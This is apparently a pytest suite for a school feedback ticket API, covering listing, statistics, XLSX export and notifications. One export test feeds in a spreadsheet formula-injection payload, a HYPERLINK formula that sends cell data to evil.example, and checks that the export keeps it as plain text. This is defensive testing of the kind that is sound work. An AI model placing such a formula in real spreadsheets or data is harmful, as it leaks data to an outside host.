"""Staff lists (filters, keyset pages), offline intake, figures, the XLSX export, notifications."""

from __future__ import annotations

import io
import os
import tempfile
from datetime import timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncConnection

from huixiang.services import listing as listing_service

from .conftest import World
from .helpers import assert_error, parse_time, ticket_at, walk

TICKETS = "/api/v1/tickets"


async def listing(world: World, user: str, **params: Any) -> list[dict[str, Any]]:
    answer = await world.as_(user, "GET", TICKETS, params={"limit": 100, **params})
    assert answer.status_code == 200, answer.text
    return list(answer.json()["items"])


def offline(**overrides: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "school_code": "s1",
        "kind": "suggestion",
        "category": "校车与交通",
        "content": "家长会上提出：校车站点能否增加一个。",
        "consent": True,
        "channel": "parent_meeting",
    }
    data.update(overrides)
    return {k: v for k, v in data.items() if v is not None}


async def record(world: World, user: str = "reg1", **overrides: Any) -> dict[str, Any]:
    answer = await world.as_(user, "POST", TICKETS, json=offline(**overrides))
    assert answer.status_code == 201, answer.text
    return dict(answer.json())


# ---- offline intake ---------------------------------------------------------------------------


@pytest.mark.parametrize("user", ["reg1", "lead1", "hand1", "grid1"])
async def test_offline_intake_by_school_staff_returns_ticket(world: World, user: str) -> None:
    ticket = await record(world, user, channel="hotline")
    assert (ticket["channel"], ticket["status"], ticket["school_code"]) == ("hotline", "collected", "s1")
    assert {
        "number",
        "kind",
        "category",
        "priority",
        "content",
        "anonymous",
        "contact",
        "student",
        "collected_at",
        "register_due_at",
        "respond_due_at",
        "overdue",
        "supervised",
        "assignee",
        "response",
        "rating",
    } <= set(ticket)
    log = (await world.as_("lead1", "GET", f"{TICKETS}/{ticket['number']}/events")).json()
    assert log["items"][0]["actor"] == f"{user}老师"


async def test_offline_intake_default_channel_is_mailbox(world: World) -> None:
    assert (await record(world, channel=None))["channel"] == "mailbox"


async def test_offline_intake_backdated_keeps_collected_at_and_deadlines(world: World) -> None:
    collected = (world.now() - timedelta(days=3)).replace(microsecond=0)
    ticket = await record(world, channel="mailbox", collected_at=collected.isoformat())
    assert parse_time(ticket["collected_at"]) == collected
    assert parse_time(ticket["register_due_at"]) > collected


async def test_offline_intake_future_collected_at_returns_400(world: World) -> None:
    future = (world.now() + timedelta(hours=2)).isoformat()
    assert_error(
        await world.as_("reg1", "POST", TICKETS, json=offline(collected_at=future)), 400, "collected_at"
    )


async def test_offline_intake_naive_collected_at_returns_400(world: World) -> None:
    naive = (world.now().replace(tzinfo=None) - timedelta(days=1)).replace(microsecond=0).isoformat()
    assert_error(
        await world.as_("reg1", "POST", TICKETS, json=offline(collected_at=naive)), 400, "collected_at"
    )


async def test_offline_intake_collected_over_a_year_ago_returns_400(world: World) -> None:
    old = (world.now() - timedelta(days=400)).isoformat()
    assert_error(
        await world.as_("reg1", "POST", TICKETS, json=offline(collected_at=old)), 400, "collected_at"
    )


async def test_offline_intake_garbage_collected_at_returns_400(world: World) -> None:
    answer = await world.as_("reg1", "POST", TICKETS, json=offline(collected_at="yesterday"))
    assert_error(answer, 400, "collected_at")


async def test_offline_intake_online_channel_returns_400(world: World) -> None:
    assert_error(await world.as_("reg1", "POST", TICKETS, json=offline(channel="online")), 400, "channel")


async def test_offline_intake_unknown_channel_returns_400(world: World) -> None:
    assert_error(await world.as_("reg1", "POST", TICKETS, json=offline(channel="pigeon")), 400, "channel")


@pytest.mark.parametrize("user", ["insp1", "admin"])
async def test_offline_intake_by_inspector_or_admin_returns_403(world: World, user: str) -> None:
    assert_error(await world.as_(user, "POST", TICKETS, json=offline()), 403)


async def test_offline_intake_out_of_scope_school_returns_404(world: World) -> None:
    assert_error(await world.as_("reg1", "POST", TICKETS, json=offline(school_code="s2")), 404)


async def test_offline_intake_unknown_school_returns_400(world: World) -> None:
    assert_error(await world.as_("reg1", "POST", TICKETS, json=offline(school_code="zz")), 400, "school_code")


async def test_offline_intake_without_token_returns_401(world: World) -> None:
    assert_error(await world.client.post(TICKETS, json=offline()), 401)


# ---- list -------------------------------------------------------------------------------------


async def test_list_is_newest_first_with_contract_fields(world: World) -> None:
    made = [(await world.submit())["number"] for _ in range(3)]
    items = await listing(world, "reg1")
    assert [t["number"] for t in items] == list(reversed(made))
    collected = [parse_time(t["collected_at"]) for t in items]
    assert collected == sorted(collected, reverse=True)


async def test_list_filters_by_status_channel_kind_school(world: World) -> None:
    collected = await world.submit()
    registered = await ticket_at(world, "registered", kind="praise")
    hotline = await record(world, channel="hotline", kind="help")
    other_school = await world.submit("s2")
    numbers = lambda items: {t["number"] for t in items}  # noqa: E731

    assert numbers(await listing(world, "insp1", status="registered")) == {registered["number"]}
    assert numbers(await listing(world, "insp1", channel="hotline")) == {hotline["number"]}
    assert numbers(await listing(world, "insp1", kind="praise")) == {registered["number"]}
    assert numbers(await listing(world, "insp1", school_code="s2")) == {other_school["number"]}
    assert numbers(await listing(world, "insp1", school_code="s1", status="collected")) == {
        collected["number"],
        hotline["number"],
    }
    assert numbers(await listing(world, "insp1", status="collected", channel="online", school_code="s1")) == {
        collected["number"]
    }


async def test_list_overdue_filter_shows_only_late_open_tickets(world: World) -> None:
    old = (world.now() - timedelta(days=30)).isoformat()
    late = await record(world, collected_at=old)
    late_but_answered = await record(world, collected_at=old)
    await world.action("reg1", late_but_answered["number"], "register")
    await world.action("reg1", late_but_answered["number"], "respond", text="已答复")
    await world.submit()  # on time
    items = await listing(world, "lead1", overdue="true")
    assert [t["number"] for t in items] == [late["number"]]
    assert items[0]["overdue"] is True
    assert len(await listing(world, "lead1")) == 3


async def test_list_assignee_me_shows_only_my_tickets(world: World) -> None:
    mine = await ticket_at(world, "assigned")
    other = await ticket_at(world, "submitted")
    await world.action("lead1", other["number"], "assign", assignee="hand1b")
    await world.submit()
    assert [t["number"] for t in await listing(world, "hand1", assignee="me")] == [mine["number"]]
    assert [t["number"] for t in await listing(world, "hand1b", assignee="me")] == [other["number"]]
    assert await listing(world, "lead1", assignee="me") == []


async def test_list_assignee_other_than_me_returns_400(world: World) -> None:
    assert_error(await world.as_("lead1", "GET", TICKETS, params={"assignee": "hand1"}), 400, "assignee")


@pytest.mark.parametrize(
    ("param", "value"), [("status", "lost"), ("channel", "pigeon"), ("kind", "x"), ("overdue", "perhaps")]
)
async def test_list_bad_filter_value_returns_400_naming_it(world: World, param: str, value: str) -> None:
    assert_error(await world.as_("lead1", "GET", TICKETS, params={param: value}), 400, param)


async def test_list_keyset_pages_cover_every_ticket_once(world: World) -> None:
    made = {(await world.submit())["number"] for _ in range(7)}
    seen: list[str] = []
    cursor = None
    pages = 0
    while True:
        params: dict[str, Any] = {"limit": 3}
        if cursor:
            params["cursor"] = cursor
        answer = await world.as_("reg1", "GET", TICKETS, params=params)
        assert answer.status_code == 200, answer.text
        page = answer.json()
        assert len(page["items"]) <= 3
        seen += [t["number"] for t in page["items"]]
        pages += 1
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert pages == 3
    assert len(seen) == len(set(seen)) == 7
    assert set(seen) == made


async def test_list_exact_page_size_has_no_next_cursor(world: World) -> None:
    for _ in range(2):
        await world.submit()
    answer = (await world.as_("reg1", "GET", TICKETS, params={"limit": 2})).json()
    assert len(answer["items"]) == 2 and answer["next_cursor"] is None


async def test_list_cursor_with_filter_keeps_filter(world: World) -> None:
    for _ in range(3):
        await world.submit(kind="praise")
    await world.submit(kind="help")
    first = (await world.as_("reg1", "GET", TICKETS, params={"limit": 2, "kind": "praise"})).json()
    second = (
        await world.as_(
            "reg1", "GET", TICKETS, params={"limit": 2, "kind": "praise", "cursor": first["next_cursor"]}
        )
    ).json()
    assert [t["kind"] for t in first["items"] + second["items"]] == ["praise"] * 3
    assert second["next_cursor"] is None


@pytest.mark.parametrize("cursor", ["!!!", "bm90IGEgY3Vyc29y", "MjAyNi0wMS0wMVQwMDowMDowMHx4"])
async def test_list_bad_cursor_returns_400(world: World, cursor: str) -> None:
    assert_error(await world.as_("reg1", "GET", TICKETS, params={"cursor": cursor}), 400, "cursor")


@pytest.mark.parametrize("limit", ["0", "101", "-5", "ten"])
async def test_list_limit_out_of_range_returns_400(world: World, limit: str) -> None:
    assert_error(await world.as_("reg1", "GET", TICKETS, params={"limit": limit}), 400, "limit")


async def test_list_without_token_returns_401(world: World) -> None:
    assert_error(await world.client.get(TICKETS), 401)


async def test_list_admin_without_ticket_roles_sees_scope(world: World) -> None:
    receipt = await world.submit("s3")
    assert [t["number"] for t in await listing(world, "admin")] == [receipt["number"]]


# ---- stats ------------------------------------------------------------------------------------


async def _known_set(world: World) -> None:
    """s1: 4 tickets — 3 responded (2 on time, 1 late), ratings satisfied / basically / unsatisfied
    (the last reopened). s2: 2 tickets — 1 responded and satisfied, 1 open and overdue."""
    a = await ticket_at(world, "responded")
    b = await ticket_at(world, "responded")
    old = (world.now() - timedelta(days=30)).isoformat()
    c = await record(world, collected_at=old)  # late: the deadline passed long ago
    await world.action("reg1", c["number"], "register")
    await world.action("reg1", c["number"], "respond", text="迟到的答复")
    await world.submit()  # s1, open, on time
    for receipt, value in ((a, "satisfied"), (b, "basically_satisfied")):
        answer = await world.client.post(
            f"/api/v1/public/tickets/{receipt['number']}/rating",
            json={"code": receipt["access_code"], "value": value},
        )
        assert answer.status_code == 200
    d = await ticket_at(world, "responded", school="s2")
    answer = await world.client.post(
        f"/api/v1/public/tickets/{d['number']}/rating",
        json={"code": d["access_code"], "value": "unsatisfied"},
    )
    assert answer.json()["status"] == "assigned"
    await world.action("hand2", d["number"], "respond", text="整改后答复")
    await world.as_("reg2", "POST", TICKETS, json=offline(school_code="s2", collected_at=old))


async def test_stats_figures_on_known_set(world: World) -> None:
    await _known_set(world)
    answer = await world.as_("insp1", "GET", "/api/v1/stats")
    assert answer.status_code == 200, answer.text
    figures = answer.json()
    assert figures["total"] == 6
    assert figures["responded"] == 4
    assert figures["responded_on_time"] == 3
    assert figures["response_rate"] == pytest.approx(4 / 6, abs=1e-4)
    # 按时反馈率: answered on time over those whose deadline has come (answered, or open and late).
    assert figures["on_time_rate"] == pytest.approx(3 / 5, abs=1e-4)
    assert figures["overdue_open"] == 1
    assert (
        figures["rated"],
        figures["satisfied"],
        figures["basically_satisfied"],
        figures["unsatisfied"],
    ) == (3, 1, 1, 1)
    assert figures["satisfaction_rate"] == pytest.approx(2 / 3, abs=1e-4)
    assert figures["reopened"] == 1
    by_school = {row["school_code"]: row for row in figures["by_school"]}
    assert set(by_school) == {"s1", "s2"}
    s1, s2 = by_school["s1"], by_school["s2"]
    assert (s1["total"], s1["responded"], s1["responded_on_time"], s1["rated"]) == (4, 3, 2, 2)
    assert s1["response_rate"] == 0.75 and s1["satisfaction_rate"] == 1.0
    assert s1["on_time_rate"] == pytest.approx(2 / 3, abs=1e-4)
    assert (s2["total"], s2["responded"], s2["overdue_open"], s2["unsatisfied"]) == (2, 1, 1, 1)
    assert s2["satisfaction_rate"] == 0.0 and s2["on_time_rate"] == 0.5 and s2["response_rate"] == 0.5


async def test_stats_org_filter_limits_to_subtree(world: World) -> None:
    await _known_set(world)
    figures = (await world.as_("insp1", "GET", "/api/v1/stats", params={"org_code": "s2"})).json()
    assert figures["total"] == 2
    assert [row["school_code"] for row in figures["by_school"]] == ["s2"]


async def test_stats_empty_scope_has_null_rates(world: World) -> None:
    figures = (await world.as_("insp2", "GET", "/api/v1/stats")).json()
    assert figures["total"] == 0 and figures["response_rate"] is None
    assert figures["satisfaction_rate"] is None and figures["by_school"] == []


async def test_stats_period_filter_counts_collected_in_range(world: World) -> None:
    old = world.now() - timedelta(days=20)
    await record(world, collected_at=old.isoformat())
    await world.submit()
    start = (old - timedelta(days=1)).isoformat()
    end = (old + timedelta(days=1)).isoformat()
    figures = (await world.as_("lead1", "GET", "/api/v1/stats", params={"from": start, "to": end})).json()
    assert figures["total"] == 1
    recent = (
        await world.as_(
            "lead1",
            "GET",
            "/api/v1/stats",
            params={"from": (world.now() - timedelta(days=1)).isoformat()},
        )
    ).json()
    assert recent["total"] == 1


async def test_stats_from_after_to_returns_400(world: World) -> None:
    now = world.now()
    params = {"from": now.isoformat(), "to": (now - timedelta(days=1)).isoformat()}
    assert_error(await world.as_("lead1", "GET", "/api/v1/stats", params=params), 400, "from")


@pytest.mark.parametrize(
    ("param", "value"), [("from", "last week"), ("to", "2026-13-01"), ("from", "2026-11-01T08:00:00")]
)
async def test_stats_bad_bound_returns_400_naming_it_as_the_client_does(
    world: World, param: str, value: str
) -> None:
    answer = await world.as_("lead1", "GET", "/api/v1/stats", params={param: value})
    body = assert_error(answer, 400, f"`{param}`", "2026-11-01", "offset")
    assert "from_" not in body["detail"]


async def test_stats_plain_dates_are_whole_days_in_the_bureaus_zone(world: World) -> None:
    # Local 2026-11-11 runs from 11-10 16:00 to 11-11 16:00 in UTC.
    for local in ("2026-11-10T23:30", "2026-11-11T00:30", "2026-11-11T23:30", "2026-11-12T00:10"):
        await record(world, collected_at=f"{local}:00+08:00")
    stats = "/api/v1/stats"
    one_day = await world.as_("lead1", "GET", stats, params={"from": "2026-11-11", "to": "2026-11-11"})
    assert one_day.status_code == 200, one_day.text
    assert one_day.json()["total"] == 2
    from_only = await world.as_("lead1", "GET", stats, params={"from": "2026-11-11"})
    assert from_only.json()["total"] == 3
    to_only = await world.as_("lead1", "GET", stats, params={"to": "2026-11-11"})
    assert to_only.json()["total"] == 3
    exact = await world.as_(
        "lead1", "GET", stats, params={"from": "2026-11-11T00:00:00+08:00", "to": "2026-11-11T23:00:00+08:00"}
    )
    assert exact.json()["total"] == 1


async def test_stats_of_a_school_are_the_same_asked_directly_or_in_its_districts_by_school(
    world: World,
) -> None:
    await world.submit()
    await ticket_at(world, "responded")
    await world.submit(to_bureau=True)  # about s1, filed at its district d1
    await world.submit("s2")
    district = (await world.as_("insp1", "GET", "/api/v1/stats", params={"org_code": "d1"})).json()
    assert district["total"] == 4
    in_district = {row["school_code"]: row for row in district["by_school"]}
    direct = (await world.as_("insp1", "GET", "/api/v1/stats", params={"org_code": "s1"})).json()
    assert direct["total"] == 3
    assert [row["school_code"] for row in direct["by_school"]] == ["s1"]
    assert {k: v for k, v in direct.items() if k not in ("by_school", "freshness")} == {
        k: v for k, v in in_district["s1"].items() if k not in ("school_code", "school_name")
    }
    assert direct["by_school"][0] == in_district["s1"]
    whole = (await world.as_("insp1", "GET", "/api/v1/stats")).json()
    assert whole["by_school"] == district["by_school"]


@pytest.mark.parametrize(
    ("user", "org_code"),
    [
        ("lead1", "city"),
        ("lead1", "d1"),
        ("lead1", "s2"),
        ("insp1", "s3"),
        ("insp1", "city"),
        ("lead1", "zz"),
    ],
)
async def test_stats_org_outside_the_callers_scope_returns_404(
    world: World, user: str, org_code: str
) -> None:
    await world.submit()
    answer = await world.as_(user, "GET", "/api/v1/stats", params={"org_code": org_code})
    assert_error(answer, 404, org_code)


async def test_stats_org_inside_the_callers_scope_answers(world: World) -> None:
    await world.submit()
    answer = await world.as_("lead1", "GET", "/api/v1/stats", params={"org_code": "s1"})
    assert answer.status_code == 200, answer.text
    assert answer.json()["total"] == 1


async def test_stats_merged_ticket_is_not_counted(world: World) -> None:
    primary, duplicate = await world.submit(), await world.submit()
    await world.action("reg1", duplicate["number"], "merge", into=primary["number"])
    assert (await world.as_("lead1", "GET", "/api/v1/stats")).json()["total"] == 1


async def test_stats_without_token_returns_401(world: World) -> None:
    assert_error(await world.client.get("/api/v1/stats"), 401)


# ---- export -----------------------------------------------------------------------------------

EXPORT = "/api/v1/exports/tickets.xlsx"
HEADER = (
    "编号",
    "学校",
    "渠道",
    "类型",
    "类别",
    "紧急程度",
    "状态",
    "标题",
    "内容",
    "收集时间 (UTC+08:00)",
    "登记期限 (UTC+08:00)",
    "答复期限 (UTC+08:00)",
    "是否逾期",
    "督办",
    "承办人",
    "答复",
    "答复时间 (UTC+08:00)",
    "评价",
)


def sheet_of(content: bytes) -> Any:
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["工单", "按学校", "按渠道", "按类型", "按类别"]
    return workbook["工单"]


def sheet_rows(content: bytes) -> list[tuple[Any, ...]]:
    return list(sheet_of(content).iter_rows(values_only=True))


def by_header(content: bytes) -> list[dict[str, Any]]:
    header, *rows = sheet_rows(content)
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.mark.parametrize("user", ["lead1", "reg1", "insp1", "admin"])
async def test_export_xlsx_has_header_and_one_row_per_ticket(world: World, user: str) -> None:
    made = [(await world.submit())["number"] for _ in range(3)]
    await walk(world, made[0], "responded")
    answer = await world.as_(user, "GET", EXPORT)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "attachment" in answer.headers["content-disposition"]
    rows = sheet_rows(answer.content)
    assert rows[0] == HEADER
    assert len(rows) == 4
    assert {row[0] for row in rows[1:]} == set(made)
    answered = next(row for row in by_header(answer.content) if row["编号"] == made[0])
    assert answered["答复"] == "已处理，感谢您的反馈。"


async def test_export_shows_names_and_words_not_codes(world: World) -> None:
    receipt = await world.submit(kind="complaint")
    await walk(world, receipt["number"], "assigned")
    await record(world, channel="parent_meeting", kind="suggestion")
    rows = by_header((await world.as_("lead1", "GET", EXPORT)).content)
    assigned = next(row for row in rows if row["编号"] == receipt["number"])
    assert (assigned["学校"], assigned["渠道"], assigned["类型"], assigned["状态"]) == (
        "第一实验小学",
        "互联网+直通车",
        "投诉",
        "办理中",
    )
    assert (assigned["紧急程度"], assigned["是否逾期"], assigned["督办"]) == ("一般", "否", "否")
    assert assigned["承办人"] == "hand1老师"
    offline_row = next(row for row in rows if row["编号"] != receipt["number"])
    assert (offline_row["渠道"], offline_row["类型"], offline_row["状态"], offline_row["承办人"]) == (
        "家长会",
        "建议",
        "待登记",
        None,
    )


async def test_export_rating_in_words(world: World) -> None:
    receipt = await ticket_at(world, "responded")
    rated = await world.client.post(
        f"/api/v1/public/tickets/{receipt['number']}/rating",
        json={"code": receipt["access_code"], "value": "basically_satisfied"},
    )
    assert rated.status_code == 200, rated.text
    [row] = by_header((await world.as_("lead1", "GET", EXPORT)).content)
    assert row["评价"] == "基本满意"


async def test_export_times_are_the_bureaus_local_time_named_in_the_header(world: World) -> None:
    receipt = await world.submit()
    ticket = (await world.as_("lead1", "GET", f"{TICKETS}/{receipt['number']}")).json()
    [row] = by_header((await world.as_("lead1", "GET", EXPORT)).content)
    collected = parse_time(ticket["collected_at"]).astimezone(ZoneInfo("Asia/Shanghai"))
    assert row["收集时间 (UTC+08:00)"] == collected.replace(tzinfo=None, microsecond=0)
    respond_due = parse_time(receipt["respond_due_at"]).astimezone(ZoneInfo("Asia/Shanghai"))
    assert row["答复期限 (UTC+08:00)"] == respond_due.replace(tzinfo=None, microsecond=0)


@pytest.mark.parametrize(
    "text_value",
    ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=1+1", "+1+2", "-2+3", "@SUM(1,2)", "0012"],
)
async def test_export_text_that_looks_like_a_formula_stays_text(world: World, text_value: str) -> None:
    await world.submit(title=text_value, content=f"{text_value} 孩子的事")
    sheet = sheet_of((await world.as_("lead1", "GET", EXPORT)).content)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    header = [cell.value for cell in next(sheet.iter_rows())]
    row = [cell.value for cell in list(sheet.iter_rows())[1]]
    assert row[header.index("标题")] == text_value
    assert row[header.index("内容")] == f"{text_value} 孩子的事"


async def test_export_leaves_out_characters_a_workbook_cannot_hold(
    world: World, connection: AsyncConnection
) -> None:
    receipt = await world.submit()
    await connection.execute(
        text("UPDATE tickets SET content = :c WHERE number = :n"),
        {"c": "菜太咸\x0b了\x1f。", "n": receipt["number"]},
    )
    answer = await world.as_("lead1", "GET", EXPORT)
    assert answer.status_code == 200, answer.text
    assert by_header(answer.content)[0]["内容"] == "菜太咸了。"


async def test_export_header_row_is_frozen_with_filters_over_every_row(world: World) -> None:
    for _ in range(2):
        await world.submit()
    sheet = sheet_of((await world.as_("lead1", "GET", EXPORT)).content)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:R3"


async def test_export_respects_filters(world: World) -> None:
    await world.submit(kind="praise")
    await world.submit(kind="help")
    answer = await world.as_("lead1", "GET", EXPORT, params={"kind": "praise"})
    rows = by_header(answer.content)
    assert [row["类型"] for row in rows] == ["表扬"]


async def test_export_leaves_out_phone_and_keeps_content_verbatim(world: World) -> None:
    await world.submit(content="内容=1+1")
    content = (await world.as_("insp1", "GET", EXPORT)).content
    assert "13812341234" not in repr(sheet_rows(content))
    assert by_header(content)[0]["内容"] == "内容=1+1"


async def test_export_reads_in_chunks_and_keeps_every_row_in_order_never_cut(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(listing_service, "EXPORT_CHUNK", 2)
    numbers = [
        (await world.submit(kind=kind))["number"] for kind in ("praise", "praise", "help", "help", "help")
    ]
    rows = by_header((await world.as_("lead1", "GET", EXPORT)).content)
    assert [row["编号"] for row in rows] == numbers[::-1]  # newest first, across chunk boundaries


async def test_export_leaves_no_file_behind(
    world: World, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    await world.submit()
    answer = await world.as_("lead1", "GET", EXPORT)
    assert answer.status_code == 200 and answer.headers["content-length"] == str(len(answer.content))
    assert os.listdir(tmp_path) == []  # noqa: ASYNC240 - a test, after the answer


def breakdown_of(content: bytes, title: str) -> list[dict[str, Any]]:
    sheet = load_workbook(io.BytesIO(content))[title]
    assert sheet.freeze_panes == "A2"
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert sheet.auto_filter.ref == f"A1:L{len(rows) + 1}"
    return [dict(zip(header, row, strict=True)) for row in rows]


async def test_export_has_a_sheet_of_figures_per_school_channel_kind_and_category(world: World) -> None:
    await world.submit("s1", kind="praise")
    await world.submit("s1", kind="help", category="校园安全")
    await world.submit("s2", kind="help")
    content = (await world.as_("insp1", "GET", EXPORT)).content
    stats = (await world.as_("insp1", "GET", "/api/v1/stats")).json()
    schools = breakdown_of(content, "按学校")
    assert [(row["学校"], row["收件"]) for row in schools] == [
        (row["school_name"], row["total"]) for row in stats["by_school"]
    ]
    assert {row["类型"]: row["收件"] for row in breakdown_of(content, "按类型")} == {"表扬": 1, "求助": 2}
    assert {row["类别"]: row["收件"] for row in breakdown_of(content, "按类别")} == {
        "食堂膳食": 2,
        "校园安全": 1,
    }
    [channel] = breakdown_of(content, "按渠道")
    assert (channel["渠道"], channel["收件"], channel["反馈率"]) == ("互联网+直通车", 3, 0.0)
    for title in ("按学校", "按渠道", "按类型", "按类别"):
        assert sum(row["收件"] for row in breakdown_of(content, title)) == stats["total"] == 3


async def test_export_breakdowns_follow_the_filters(world: World) -> None:
    await world.submit(kind="praise")
    await world.submit(kind="help")
    content = (await world.as_("lead1", "GET", EXPORT, params={"kind": "praise"})).content
    assert [(row["类型"], row["收件"]) for row in breakdown_of(content, "按类型")] == [("表扬", 1)]


@pytest.mark.parametrize("user", ["hand1", "grid1"])
async def test_export_by_handler_returns_403(world: World, user: str) -> None:
    assert_error(await world.as_(user, "GET", EXPORT), 403)


async def test_export_without_token_returns_401(world: World) -> None:
    assert_error(await world.client.get(EXPORT), 401)


# ---- notifications ----------------------------------------------------------------------------


async def test_notifications_list_only_callers_and_mark_read(
    world: World, connection: AsyncConnection
) -> None:
    receipt = await ticket_at(world, "submitted")
    await connection.execute(
        text(
            "INSERT INTO notifications (user_id, ticket_id, rule, at) "
            "SELECT u.id, t.id, 'overdue', now() FROM users u, tickets t "
            "WHERE u.username IN ('hand1', 'lead2') AND t.number = :n"
        ),
        {"n": receipt["number"]},
    )
    answer = await world.as_("hand1", "GET", "/api/v1/notifications")
    assert answer.status_code == 200
    items = answer.json()["items"]
    assert [(n["rule"], n["ticket_number"], n["read"]) for n in items] == [
        ("overdue", receipt["number"], False)
    ]
    assert (await world.as_("hand1b", "GET", "/api/v1/notifications")).json()["items"] == []
    marked = await world.as_("hand1", "POST", f"/api/v1/notifications/{items[0]['id']}/read")
    assert marked.status_code == 204
    assert (await world.as_("hand1", "GET", "/api/v1/notifications")).json()["items"][0]["read"] is True
    # Someone else's notification cannot be marked.
    theirs = await world.as_("lead2", "GET", "/api/v1/notifications")
    other_id = theirs.json()["items"][0]["id"]
    assert_error(await world.as_("hand1", "POST", f"/api/v1/notifications/{other_id}/read"), 404)


async def test_notifications_without_token_returns_401(world: World) -> None:
    assert_error(await world.client.get("/api/v1/notifications"), 401)
